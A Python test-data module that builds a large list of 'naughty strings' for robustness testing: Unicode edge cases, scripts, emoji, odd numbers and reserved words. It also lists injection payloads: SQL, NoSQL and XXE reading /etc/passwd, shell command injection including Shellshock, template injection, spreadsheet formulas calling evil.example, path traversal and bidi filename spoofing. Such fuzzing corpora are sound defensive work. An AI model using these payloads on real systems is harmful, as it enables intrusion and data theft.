"""Naughty strings, made here: what breaks programs that think text is simple. Always the same.

Controls, bidi, stacks, normalisation, scripts, emoji, numbers, reserved words, and the languages
of databases, shells, templates, spreadsheets and paths. In spirit minimaxir's list, not its text.
"""
# ruff: noqa: E501  (tables of strange texts read better in long rows)
# fmt: off

from collections.abc import Iterator
from itertools import product
from typing import Final

_ALONE: Final = (
    *range(0x20),  # controls
    *range(0x7F, 0xA1),  # and their second set, no-break space
    *(0xAD, 0x34F, 0x61C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x1D159),
    *range(0x2000, 0x2010),  # spaces, zero width, marks of direction
    *range(0x2028, 0x2030),  # ends of lines and paragraphs, embeddings, overrides
    *range(0x205F, 0x2070),  # invisible signs, isolates
    *(0x2800, 0x3000, 0x3164, 0xFEFF, 0xFFA0, *range(0xFFF9, 0x10000)),
    *(0xFE00, 0xFE0E, 0xFE0F, 0xE0001, 0xE0020, 0xE007F, 0xE0100, 0xE01EF),
    *(0xE000, 0xF8FF, 0xF0000, 0xFFFFD, 0x100000, 0x10FFFD),  # private use
    *range(0xFDD0, 0xFDF0),  # noncharacters, as are the ends of planes
    *(plane << 16 | end for plane in range(1, 17) for end in (0xFFFE, 0xFFFF)),
    *(0x10000, 0x1D173, 0x1F1E6, 0x1F3FB, 0x20000, 0x2FA1D, 0x323AF, 0xE0FFF),
)
_CHANGED: Final = ["ﬁ", "ﬃ", "ﬅ", "ẛ̣", "Å", "Å", "Ω", "Ω", "①", "⑳", "㍿", "㏑", "ｆｕｌｌ", "＜ｂ＞", "＂", "＇", "﹤b﹥", "‹b›", "𝔉𝔯𝔞𝔨", "𝕕𝕠𝕦𝕓𝕝𝕖", "ﷺ", "﷽", "½", "²", "₂", "İstanbul", "ıIİi", "ß", "ẞ", "ſ", "K", "ŉ", "ǰ", "ΐ", "ὈΔΥΣΣΕΎΣ", "ᾳ", "ﾊﾝｶｸ", "ﾎﾟ", "が", "が", "각", "각", "ख़", "ড়", "⫝̸", "豈", "更", "ℌ", "™", "℡", "Ǆ", "ﬀ", "ŀ", "ʼn", "ⅷ", "㋿", "︵", "‥", "﹫", "℀", "．．／", "∕", "⁄", "＼", "〱", "ㄱ", "￦", "´", "῭", "ͺ", ";", "`", "Ḍ̇", "ḍ̇", "ậ", "ậ", "café", "café", "naïve", "Ångström", "résumé", "𝟘𝟙", "🅰", "⒈", "﹏", "＿", "﹍"]
_SCRIPTS: Final = ["加班文化", "大小周", "鬱鬱", "𠮷野家", "𪚥𪚥", "ひらがな", "カタカナ", "ー・", "각하", "ᄀᄀᄀ각ᆨᆨ", "العربية", "لُلُصّبُلُلصّبُررً", "مُنَاقَشَةُ", "السُّلْطَة", "עִבְרִית", "שָׁלוֹם", "हिन्दी", "क्ष्म्य", "బ్రుర్\u200c", "జ్ఞ\u200cా", "ภาษาไทย", "กฺิีฺึ", "ໂລກ", "ខ្មែរ", "မြန်မာ", "བོད་ཡིག", "ᠮᠣᠩᠭᠣᠯ", "ქართული", "Ქართული", "հայերեն", "Ελληνικά", "ςσΣ", "Русский", "Ї", "ё", "Й", "አማርኛ", "ᏣᎳᎩ", "ᚠᚢᚦ", "ⴰⵎⴰⵣⵉⵖ", "ߒߞߏ", "𒈙𒐫𒀱", "𓀀𓂀", "𐎠𐎼", "𐤀𐤁", "ꦗꦮ", "꧁꧂", "සිංහල", "தமிழ்", "௵", "മലയാളം", "ਪੰਜਾਬੀ", "ગુજરાતી", "ଓଡ଼ିଆ", "తెలుగు", "Tiếng_Việt", "Čeština", "Łódź", "ÞÐæ", "\u200fabc\u200f", "abcאבגdef", "١٢٣٤", "२०२६", "௧௨", "〇一二", "Ⅻ", "㊙", "⼀⼁", "⿰木木", "々〻", "𛀀", "ゟ", "ヿ", "㌀", "〠", "ꙮ", "⸎", "ﷻ", "𝕏", "¯\\_(ツ)_/¯", "(╯°□°)╯︵┻━┻", "ಠ_ಠ", "ʕ•ᴥ•ʔ"]
_EMOJI: Final = ["👨\u200d👩\u200d👧\u200d👦", "👩🏽\u200d💻", "🏳️\u200d🌈", "🏴\u200d☠️", "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🇨🇳", "🇨🇳🇺🇸🇨", "🇦", "1️⃣", "#️⃣", "*️⃣", "❤️\u200d🔥", "👍🏿", "\u200d", "👩\u200d", "\u200d👩", "🏻", "👨🏻\u200d🤝\u200d👨🏿", "🫠", "☺︎", "☺️", "⌚", "🀄", "🃏", "💩", "🕴🏽", "🧑\u200d🧑\u200d🧒\u200d🧒", "🐈\u200d⬛", "😮\u200d💨"]
_NUMBERS: Final = ["0", "-0", "+1", "1.", ".5", "1,5", "1.000,00", "1,000.00", "1'000", "1_000", "1e3", "1E309", "-1e-999", "0x0", "0xdeadbeef", "0b1", "0o7", "007", "08", "NaN", "nan", "-NaN", "Infinity", "-inf", "∞", "1/0", "0/0", "½", "１２", "٣", "३", "一二三", "零", "①", "1e", "1e+", "--", "-1", "2147483647", "2147483648", "-2147483649", "4294967296", "9223372036854775807", "9223372036854775808", "18446744073709551616", "1.7976931348623157e308", "4.9e-324", "0.1+0.2", "1.0.0", "$1.00", "1€", "50%", "1:00", "24:60", "99:99", "0000-00-00", "2026-02-30", "9999-12-31", "10000-01-01", "1970-01-01T00:00:00Z", "12-31", "1m", "3k", "1z", "1_", "_1", "1j", "1L", "1n", "0.0000001", "123456789012345678901234567890"]
_RESERVED: Final = ["null", "NULL", "Null", "nil", "None", "undefined", "undef", "true", "false", "True", "FALSE", "yes", "no", "on", "off", "void", "NaN", "void(0)", "this", "self", "super", "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "__class__", "__init__", "__dict__", "__import__", "eval", "exec", "import", "lambda", "class", "def", "return", "select", "insert", "update", "delete", "drop", "union", "where", "order", "group", "CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "admin", "root", "system", "index", "login", "new", "edit", "mine", "reply", "image", "check", "feed.atom", "at", "withdraw", "vote", "poll", "drafts", "favicon.ico", "robots.txt", ".htaccess", ".git/config", ".env", "id_rsa", "default", "any", "all", "remove", "anyway"]
_QUERIES: Final = r"""'|"|''|""|'"|\|\\|\'|\"|%|_|%%|*|?|;|--|/*|#|')|"))|' OR '1'='1|' OR 1=1 --|" OR ""="|') OR ('1'='1|admin'--|1; DROP TABLE post|'; DROP TABLE thread; --|'; SELECT pg_sleep(5); --|' UNION SELECT NULL,NULL --|' UNION SELECT sqlite_version() --|1' AND SLEEP(5)#|'||(SELECT 'x')||'|$$;SELECT 1;$$|E'\x27'|U&'\0027'|x'00'|:asked|@x|?1|$1|%(asked)s|NEAR(a b)|a NEAR/2 b|words : a|-marks : kthread|{words marks} : a|a AND|OR|NOT|a NOT|"a" *|a*|^a|a + b|(a|a)|a & b|a <-> b|a:*|a:ABCD|!a|!!a|'a':1|a | b|\'a\'|{"$gt": ""}|{"$where": "1"}|*)(uid=*))(|(uid=*)|' or name()='x|//*|<!ENTITY x SYSTEM "file:///etc/passwd">|&x;|<?xml version="1.0"?>|%x;"""
_SHELL: Final = r"""`id`|$(id)|${IFS}id|; id|& id|&& id|a || id|> /tmp/x|< /etc/passwd|$HOME|~root|!!|!1|*|.*|{a,b}|[a-z]|\n|$'\n'|%PATH%|%0|^&|-rf|--help|--output=x|-- -e|@file|() { :; }; id|() { _; } >_[$($())] { id; }|\u0000|\x00|\0|%00|%0a|%0d%0aX: y|%250a|%u000a|\r\n"""
_TEMPLATES: Final = r"""{{7*7}} {{7*'7'}} {{config}} {{''.__class__.__mro__}} {{request}} {%if(1)%}x{%endif%} {%raw%} {%endraw%} {#x#} ${7*7} #{7*7} *{7*7} @{7*7} ~{7*7} $!x <%=7*7%> <%-x%> <%%> <?=7?> <?php?> [[7*7]] [(7)] {{{x}}} {{=<%%>=}} {$x} {php} ((7*7)) #set($x=7) @(7*7) @Model {{constructor.constructor('alert(1)')()}} {{#with}} {{>x}} {{!--x--}} <th:block> v-html=x ng-app x-data :x @click {{_self}} %s %d %n %x%x%n %(x)s %% %1$s %c%c {0} {x!r} {x.__class__} {0[a]} {!} {} {:>9999} $x ${x} \(x) #{x} %{x} {{%20x%20}} &{x} §x ⟦x⟧"""
_CELLS: Final = r"""=1+1|=cmd|' /C calc'!A0|+1|-1|@SUM(1)|=HYPERLINK("https://evil.example","x")|=IMPORTXML("https://evil.example","//a")|=WEBSERVICE("https://evil.example")|DDE("cmd";"/C calc";"x")|%0A=1|"=1"|'=1|;=1|,=1|＝1+1"""
_PATHS: Final = ("../", "..\\", "..//", "....//", "..%2f", "%2e%2e/", "..%5c", "%252e%252e%252f", "..;/", "．．／")
_TARGETS: Final = ("etc/passwd", "lamplight.db", "evidence/x.webp", "static/../app/main.py")
_ENDS: Final = ("a\nb", "a\n\nb", "\na\n", "a\rb", "a\n" * 40, " \n \n ", "a  \nb", "a\\\nb")
_SPACES: Final = (" a ", "a" + " " * 300 + "b", "\u3000a\u3000", "\u00a0a", "a" + "\u2003" * 50)
_LONG: Final = (
    "a" * 5_000, "加" * 2_000, "🏳️‍🌈" * 300, "a\u0301" * 700, "W" * 119, "i" * 1_900, "\u202e" * 500 + "x",
    "a" + "\u0300\u0489\u20dd\u0361" * 200, "\u200d" * 800 + "a", "ﷺ" * 500, "\u0e47" * 500 + "a", "-" * 900,
)


def _marked() -> Iterator[str]:
    for number, code in enumerate(_ALONE):
        letter = chr(code)
        yield (f"a{letter}b", f"{letter}ab {letter}", f"ab{letter}")[number % 3]
    for opening, closing in product("\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200f", "\u202c\u2069 "):
        yield f"evil{opening}moc.knab{closing}txt"
    for depth in (1, 8, 60):
        yield "Z" + "\u0335\u0321\u030d\u0489"[: depth + 1] * depth + "algo"
        yield "\u2067" * depth + "a" + "\u202e" * depth


def _texts() -> Iterator[str]:
    yield from _marked()
    yield from (*_CHANGED, *_SCRIPTS, *_EMOJI, *_NUMBERS, *_RESERVED)
    yield from (*_QUERIES.split("|"), *_SHELL.split("|"), *_TEMPLATES.split(), *_CELLS.split("|"))
    for step, target, times in product(_PATHS, _TARGETS, (1, 8)):
        yield step * times + target
    yield from (*_ENDS, *_SPACES, *_LONG)
    yield from ("\ud800", "a\udfffb", "\udc00\ud800", "\ufffd", "\x00", "\x1b[31mred", "\x08\x08ab", "a\x7f")


NAUGHTY: Final = tuple(dict.fromkeys(text for text in _texts() if text))
